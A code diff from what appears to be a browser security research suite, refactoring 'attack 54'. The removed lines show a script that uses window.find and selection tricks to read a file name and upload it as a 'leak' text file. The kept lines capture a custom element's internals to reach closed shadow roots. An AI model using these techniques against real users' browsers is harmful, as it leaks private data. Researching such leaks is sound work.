@@ -13,16 +13,10 @@
 // read (attack 48's findsel). A name learnt goes up as a text note
 // "leak-….txt". Served by server.mjs at /attack54-…; tests: attack54.test.mjs.
 
-import { attackPages, pickerWaysPage } from './uploads.mjs';
+import { findSelection, leakNote as leak, attackPages, pickerWaysPage } from './uploads.mjs';
 
-/** Upload what was learnt (a name, or a bit) as a text note, once. */
-const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once54) { window.once54 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
 
-/** attack 48's findsel on whatever is connected now: window.find('.jpg'), the selection stretched over its line, read back. */
-const findsel = (why) => `getSelection().removeAllRanges(); const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
-        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
-        const got = String(sel); note('${why} ' + JSON.stringify(got));
-        if (/jpg/i.test(got)) leak(got, '${why}');`;
+const findsel = (why) => findSelection(why, { fresh: true });
 
 /** A custom element x-h54 whose constructor keeps its ElementInternals (window.int54): its shadowRoot is the declarative root, closed or not. */
 const define = "customElements.define('x-h54', class extends HTMLElement { constructor() { super(); try { window.int54 = this.attachInternals(); } catch (e) { note('internals threw ' + e.name); } } });";
